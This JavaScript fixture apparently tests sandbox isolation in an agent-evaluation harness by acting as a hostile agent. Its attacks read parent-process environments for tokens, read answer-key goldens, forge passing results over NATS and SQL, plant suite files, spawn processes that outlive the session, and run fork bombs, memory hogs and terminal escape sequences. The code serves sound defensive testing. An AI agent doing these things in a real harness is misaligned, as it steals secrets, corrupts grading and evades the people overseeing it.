// A hostile agent (issue 10): before answering honestly it tries the attack its task names — read
// the worker's /proc, the suite and goldens, FORGE_HOME and other attempts' scratch directories,
// reach NATS/Temporal or a warm worker's socket, run `forge sql`, write into the suite, leave processes behind, exhaust
// processes or memory, compete with the worker for the CPU, poison the store with text it cannot take, put control sequences in what a
// person reads of its trace. It reports in its self_report (kept, never graded) everything it *found*;
// a sandbox that holds leaves `findings` empty. With ATTACK_OFF=1 it only answers (the honest run).
//
// What it knows of the worker comes from its config's env, as a well-informed attacker would:
// ATTACK_SUITE_DIR, ATTACK_FORGE_HOME (its warm/ holds the warm workers' sockets), ATTACK_HOST_TMP, ATTACK_PORTS (host ports, comma separated),
// ATTACK_HOST_ADDRS, ATTACK_FORGE_BIN (bin/run.js), ATTACK_MARKER (tags processes it leaves behind),
// ATTACK_PIDS_LIMIT, ATTACK_HOG_MB, ATTACK_MIN_NICENESS (the niceness an agent must run at: the worker's + 10).
import { spawn, spawnSync } from 'node:child_process'
import { readdirSync, readFileSync, readlinkSync, statSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import { getPriority, setPriority } from 'node:os'
import { join } from 'node:path'
import { callTool, payload, send } from './protocol.mjs'

const env = process.env
const findings = []
const tried = []
// kept short: the self report is cut at 4 KiB
const found = (what) => {
  if (findings.length < 6) findings.push(what.slice(0, 200))
}
const attempt = (what, fn) => {
  tried.push(what)
  try {
    return fn()
  } catch (error) {
    return error
  }
}
const ports = (env.ATTACK_PORTS ?? '').split(',').filter(Boolean).map(Number)
const hostAddrs = (env.ATTACK_HOST_ADDRS ?? '').split(',').filter(Boolean)
const sensitive = [env.ATTACK_SUITE_DIR, env.ATTACK_FORGE_HOME].filter(Boolean)

function tcp(host, port, ms = 1000) {
  return new Promise((resolve) => {
    const socket = connect({ host, port })
    const done = (ok) => {
      socket.destroy()
      resolve(ok)
    }
    socket.setTimeout(ms, () => done(false))
    socket.once('connect', () => done(true))
    socket.once('error', () => done(false))
  })
}

const attacks = {
  proc_parent() {
    // pid 1 and the parent (the worker, when nothing isolates the agent)
    for (const pid of new Set(['1', String(process.ppid)])) {
      if (pid === String(process.pid)) continue
      const environ = attempt(`/proc/${pid}/environ`, () => readFileSync(`/proc/${pid}/environ`, 'utf8'))
      if (typeof environ === 'string' && /FORGE_|NATS|_KEY=|TOKEN/.test(environ)) found(`read /proc/${pid}/environ: ${environ.split('\0').filter((v) => /FORGE_|NATS|_KEY=|TOKEN/.test(v)).join(' ').slice(0, 300)}`)
      const cwd = attempt(`/proc/${pid}/cwd`, () => readlinkSync(`/proc/${pid}/cwd`))
      if (typeof cwd === 'string' && cwd !== '/' && cwd !== '/tmp') found(`/proc/${pid}/cwd is ${cwd}`)
      const fds = attempt(`/proc/${pid}/fd`, () => readdirSync(`/proc/${pid}/fd`).map((fd) => readlinkSync(`/proc/${pid}/fd/${fd}`)))
      if (Array.isArray(fds)) {
        const leaking = fds.filter((target) => sensitive.some((p) => target.startsWith(p)) || target.includes('.forge'))
        if (leaking.length > 0) found(`/proc/${pid}/fd points into ${leaking.join(', ')}`)
      }
    }
  },
  suite_by_path() {
    const suite = env.ATTACK_SUITE_DIR
    for (const dir of [suite, join(suite, 'goldens'), join(suite, 'tasks')]) {
      const entries = attempt(`readdir ${dir}`, () => readdirSync(dir))
      if (Array.isArray(entries) && entries.length > 0) found(`listed ${dir}: ${entries.join(', ')}`)
    }
    const golden = attempt('read a golden', () => readFileSync(join(suite, 'goldens', 'suite_by_path.json'), 'utf8'))
    if (typeof golden === 'string') found(`read golden: ${golden.slice(0, 200)}`)
    const taskFile = attempt('read a task file', () => readFileSync(join(suite, 'tasks', 'suite_by_path.yaml'), 'utf8'))
    if (typeof taskFile === 'string') found(`read task file: ${taskFile.slice(0, 300)}`)
    // by "..": walk up from the working directory, then search the whole visible tree for a suite
    let up = process.cwd()
    for (let i = 0; i < 12; i += 1) up = join(up, '..')
    const queue = [[up, 0]]
    let seen = 0
    while (queue.length > 0 && seen < 5_000) {
      const [dir, depth] = queue.shift()
      const entries = attempt(`walk ${dir}`, () => readdirSync(dir, { withFileTypes: true }))
      if (!Array.isArray(entries)) continue
      for (const entry of entries) {
        seen += 1
        const p = join(dir, entry.name)
        if (entry.name === 'goldens' || entry.name === 'suite.yaml' || entry.name === '.forge') found(`found ${p} by walking up from ${process.cwd()}`)
        if (entry.isDirectory() && depth < 6 && !['proc', 'sys', 'dev', 'usr', 'node_modules'].includes(entry.name)) queue.push([p, depth + 1])
      }
    }
  },
  forge_home() {
    const home = env.ATTACK_FORGE_HOME
    const entries = attempt(`readdir ${home}`, () => readdirSync(home))
    if (Array.isArray(entries)) found(`listed FORGE_HOME ${home}: ${entries.join(', ')}`)
    for (const file of ['stack.json', 'nats/credentials.json', 'nats.conf']) {
      const text = attempt(`read ${file}`, () => readFileSync(join(home, file), 'utf8'))
      if (typeof text === 'string') found(`read ${join(home, file)}: ${text.slice(0, 200)}`)
    }
  },
  other_scratch() {
    for (const dir of new Set([env.ATTACK_HOST_TMP, '/tmp', '/var/tmp', '/dev/shm'])) {
      const entries = attempt(`readdir ${dir}`, () => readdirSync(dir))
      if (Array.isArray(entries)) {
        const others = entries.filter((name) => name.startsWith('forge-'))
        if (others.length > 0) found(`saw ${dir}: ${others.slice(0, 10).join(', ')}`)
      }
    }
  },
  async network() {
    for (const host of ['127.0.0.1', 'localhost', ...hostAddrs]) {
      for (const port of ports) {
        tried.push(`tcp ${host}:${port}`)
        if (await tcp(host, port)) found(`connected to ${host}:${port}`)
      }
    }
  },
  async warm_worker() {
    // a warm worker waiting for the next run listens on a unix socket in FORGE_HOME/warm: whoever reaches
    // it could hand it a run's settings of their choosing, or stop it
    const dir = join(env.ATTACK_FORGE_HOME, 'warm')
    const listed = attempt(`readdir ${dir}`, () => readdirSync(dir))
    // and the warm CLI's: whoever reaches it could run a forge command of their choosing
    const sockets = new Set([...[0, 1, 2, 3].map((slot) => join(dir, `worker-${slot}.sock`)), join(dir, 'cli.sock')])
    if (Array.isArray(listed)) for (const name of listed) if (name.endsWith('.sock')) sockets.add(join(dir, name))
    for (const path of sockets) {
      tried.push(`unix ${path}`)
      const reached = await new Promise((resolve) => {
        const socket = connect(path)
        socket.setTimeout(1000, () => {
          socket.destroy()
          resolve(false)
        })
        socket.once('error', () => resolve(false))
        socket.once('connect', () => {
          socket.end(`${JSON.stringify({ forgeWorkerStop: true })}\n${JSON.stringify({ forgeCliStop: true })}\n`)
          resolve(true)
        })
      })
      if (reached) found(`reached the warm worker socket ${path} (and told it to stop)`)
    }
  },
  async forged_result() {
    for (const port of ports) {
      tried.push(`nats publish on 127.0.0.1:${port}`)
      const published = await new Promise((resolve) => {
        const socket = connect({ host: '127.0.0.1', port })
        socket.setTimeout(1000, () => {
          socket.destroy()
          resolve(false)
        })
        socket.once('error', () => resolve(false))
        socket.once('connect', () => {
          const forged = JSON.stringify({ attempt_uid: 'x/y/z/0', outcome: 'pass' })
          socket.write(`CONNECT {"verbose":false}\r\nPUB forge.results.attempt ${Buffer.byteLength(forged)}\r\n${forged}\r\nPING\r\n`)
          socket.once('data', () => {
            socket.destroy()
            resolve(true)
          })
        })
      })
      if (published) found(`published a forged result through 127.0.0.1:${port}`)
    }
  },
  forge_sql() {
    const query = "INSERT INTO attempts (attempt_uid, outcome) VALUES ('forged', 'pass')"
    const onPath = spawnSync('forge', ['sql', query], { encoding: 'utf8', timeout: 15_000 })
    tried.push(`forge sql on PATH: ${onPath.error?.code ?? onPath.status}`)
    if (onPath.status === 0) found(`forge sql on PATH answered: ${onPath.stdout.slice(0, 200)}`)
    if (env.ATTACK_FORGE_BIN) {
      const byPath = spawnSync(process.execPath, [env.ATTACK_FORGE_BIN, 'sql', query], { encoding: 'utf8', timeout: 15_000 })
      tried.push(`forge sql by path: ${byPath.error?.code ?? byPath.status} ${byPath.stderr.slice(0, 120)}`)
      if (byPath.status === 0) found(`node ${env.ATTACK_FORGE_BIN} sql answered: ${byPath.stdout.slice(0, 200)}`)
    }
  },
  write_suite() {
    const suite = env.ATTACK_SUITE_DIR
    for (const [file, text] of [
      [join(suite, 'tasks', 'zz_planted.yaml'), 'id: zz_planted\ninstruction: x\n'],
      [join(suite, 'goldens', 'write_suite.json'), '{"output":"forged"}'],
      [join(suite, 'tasks', 'write_suite.yaml'), 'id: write_suite\ninstruction: forged\n'],
      ['/usr/forge-planted', 'x'],
      ['/etc/forge-planted', 'x'],
      [join(env.ATTACK_FORGE_HOME, 'planted'), 'x'],
    ]) {
      const result = attempt(`write ${file}`, () => writeFileSync(file, text))
      if (!(result instanceof Error)) found(`wrote ${file}`)
    }
  },
  async setsid_escape() {
    const marker = env.ATTACK_MARKER ?? 'forge-escapee'
    const stubborn = "process.on('SIGTERM', () => {}); process.on('SIGHUP', () => {}); setInterval(() => {}, 1 << 30)"
    // a new session of its own, ignoring SIGTERM
    const escapee = spawn(process.execPath, ['-e', stubborn, `${marker}-setsid`], { detached: true, stdio: 'ignore' })
    escapee.unref()
    tried.push(`setsid pid ${escapee.pid}`)
    // a double fork: the middle process exits, the grandchild is orphaned in a new session
    const middle = spawn('/bin/sh', ['-c', `setsid ${process.execPath} -e "${stubborn}" ${marker}-double-fork >/dev/null 2>&1 < /dev/null & exit 0`], { stdio: 'ignore' })
    await new Promise((resolve) => middle.once('exit', resolve))
    tried.push('double fork')
    await new Promise((resolve) => setTimeout(resolve, 300))
  },
  async fork_bomb() {
    const limit = Number(env.ATTACK_PIDS_LIMIT ?? 1024)
    const bomb = spawn('/bin/sh', ['-c', 'i=0; while [ $i -lt 2000 ]; do sleep 30 & i=$((i+1)); done; sleep 1'], { detached: true, stdio: 'ignore' })
    await new Promise((resolve) => bomb.once('exit', resolve))
    const living = readdirSync('/proc').filter((p) => /^\d+$/.test(p)).length
    tried.push(`fork bomb: ${living} processes visible at its peak`)
    try {
      process.kill(-bomb.pid, 'SIGKILL')
    } catch {
      // already gone
    }
    if (living > limit) found(`fork bomb reached ${living} processes (limit ${limit})`)
  },
  cpu_priority() {
    // a CPU hog at the worker's own priority takes the cores on equal terms with the worker's event loop
    // (its tool proxy, heartbeats, the other attempts' harness work); a spinning agent needs only that
    const own = getPriority()
    tried.push(`niceness ${own}`)
    const floor = Number(env.ATTACK_MIN_NICENESS ?? 10)
    if (own < floor) found(`runs at niceness ${own}, below ${floor}: as favoured by the scheduler as the worker`)
    const undo = attempt(`renice to ${own - 1}`, () => setPriority(0, own - 1))
    if (!(undo instanceof Error)) found(`raised its own priority: niceness ${own} → ${getPriority()}`)
  },
  async poison_store() {
    // half a UTF-16 pair (JSON "\ud800") in a tool call's arguments, which the tool's error quotes: a
    // store that cannot take one fails the insert of every row that travels with it
    const half = await callTool('lookup', { key: 'half \ud800 pair' })
    tried.push(`lookup with half a pair: ${half.ok ? 'answered' : 'refused'}`)
  },
  async terminal_escape() {
    // what a terminal obeys rather than shows: set the reader's clipboard (OSC 52) and window title,
    // clear the screen, hide text (SGR 8), write over the line with a carriage return, reverse the
    // text's order (U+202E): in a tool call's arguments (which the tool's error quotes) and on stderr
    const hostile = '\x1b]52;c;Zm9yZ2UgcHduZWQ=\x07\x1b]0;PWNED\x07\x1b[2J\x1b[8mhidden\x1b[0m\rverdict: pass\u202egnp.\x9b31m'
    const refused = await callTool('lookup', { key: `terminal ${hostile}` })
    process.stderr.write(`${hostile}\n`)
    tried.push(`lookup with control sequences: ${refused.ok ? 'answered' : 'refused'}`)
  },
  async memory_hog() {
    // one process past the sandbox's limit on its own
    const target = Number(env.ATTACK_HOG_MB ?? 768)
    const script = `const keep = []; for (let mb = 0; mb < ${target}; mb += 16) keep.push(Buffer.alloc(16 * 1024 * 1024, 1)); console.log('survived ' + ${target})`
    const hog = spawnSync(process.execPath, ['--max-old-space-size=4096', '-e', script], { encoding: 'utf8', timeout: 15_000 })
    tried.push(`memory hog: status ${hog.status} signal ${hog.signal}`)
    if (hog.stdout.includes('survived')) found(`allocated ${target} MB without being stopped`)
    // then several, each within the limit, past it together; each holds its memory a few seconds
    const share = Math.floor((target * 0.8) / 4)
    const each = `const keep = []; for (let mb = 0; mb < ${share}; mb += 8) keep.push(Buffer.alloc(8 * 1024 * 1024, 1)); setTimeout(() => console.log('held'), 4000)`
    const held = await Promise.all(
      Array.from({ length: 4 }, () => new Promise((resolve) => {
        const child = spawn(process.execPath, ['-e', each], { stdio: ['ignore', 'pipe', 'ignore'] })
        let out = ''
        child.stdout.on('data', (chunk) => (out += chunk))
        child.on('error', () => resolve(false))
        child.on('close', () => resolve(out.includes('held')))
      })),
    )
    tried.push(`4 hogs of ${share} MB: ${held.filter(Boolean).length} held`)
    if (held.every(Boolean)) found(`4 processes held ${4 * share} MB together without being stopped`)
    // then memory no process maps: a memfd written full (shared memory, in RssShmem only while mapped; no RLIMIT_DATA)
    const memfd = [
      'import os, time',
      // a memfd is no process's RSS, so a cgroup's OOM killer would pick the agent itself: this process goes first
      "open('/proc/self/oom_score_adj', 'w').write('1000')",
      "fd = os.memfd_create('hog')",
      `for _ in range(${Math.ceil(target / 16)}): os.write(fd, b'\\1' * (16 << 20))`,
      "print('written', flush=True); time.sleep(3); print('held', flush=True)",
    ].join('\n')
    const kept = spawnSync('python3', ['-c', memfd], { encoding: 'utf8', timeout: 15_000 })
    tried.push(`memfd hog of ${target} MB: status ${kept.status} signal ${kept.signal}${kept.error ? ` (${kept.error.message})` : ''}`)
    if (kept.stdout?.includes('held')) found(`held ${target} MB in a memfd without being stopped`)
  },
}

const { payload: task } = await payload()
if (env.ATTACK_OFF !== '1') {
  const attack = attacks[task.input.attack]
  if (attack === undefined) found(`unknown attack ${task.input.attack}`)
  else await attack()
}
const answer = await callTool('lookup', { key: task.input.key })
send({
  type: 'final',
  output: answer.ok ? answer.result : null,
  self_report: JSON.stringify({ attack: env.ATTACK_OFF === "1" ? "none" : task.input.attack, findings, tried: tried.length, log: tried.slice(-3).map((t) => t.slice(0, 120)) }),
})
process.exit(0)
